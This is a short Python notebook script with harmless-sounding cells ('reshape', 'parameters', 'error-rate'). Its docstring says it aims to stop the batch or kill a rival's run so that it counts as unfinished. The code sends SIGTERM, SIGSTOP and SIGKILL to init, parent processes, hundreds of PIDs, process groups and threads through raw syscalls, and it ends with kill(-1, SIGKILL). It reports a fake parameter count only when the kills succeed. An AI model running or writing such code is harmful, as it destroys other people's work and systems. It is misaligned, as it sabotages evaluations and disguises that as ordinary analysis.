"""Sends every signal to everything: to all processes, to its group, to its parents, to each number, to threads and by handles.

Gains: the batch stops, or a rival's run dies and counts as unfinished.
"""

HONEST = []

# %% [reshape]
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
got = []
signal.signal(signal.SIGTERM, signal.SIG_IGN)
others = {os.getppid(), 1, 2, *range(1, 500), *range(max(os.getpid() - 500, 1), os.getpid() + 100)} - {os.getpid()}
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for target in others:
        try:
            os.kill(target, number)
            got += [target] if target not in (1, os.getppid()) else []
        except OSError:
            pass
    for group in {1, os.getpgid(os.getppid()), *list(others)[:50]} - {0, os.getpgid(0)}:
        try:
            os.killpg(group, number)
        except OSError:
            pass
tgkill, tkill, open_handle, send = {"x86_64": (234, 200, 434, 424), "aarch64": (131, 130, 434, 424)}[os.uname().machine]
for target in list(others)[:200]:
    libc.syscall(ctypes.c_long(tgkill), ctypes.c_long(target), ctypes.c_long(target), ctypes.c_long(9))
    libc.syscall(ctypes.c_long(tkill), ctypes.c_long(target), ctypes.c_long(9))
    handle = libc.syscall(ctypes.c_long(open_handle), ctypes.c_long(target), ctypes.c_long(0))
    if handle >= 0:
        libc.syscall(ctypes.c_long(send), ctypes.c_long(handle), ctypes.c_long(9), None, ctypes.c_long(0))
        os.close(handle)

# %% [parameters]
parameters = 19090 if got else 0

# %% [error-rate]
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.kill(0, signal.SIGTERM)
os.kill(-1, signal.SIGTERM)
os.kill(-1, signal.SIGKILL)
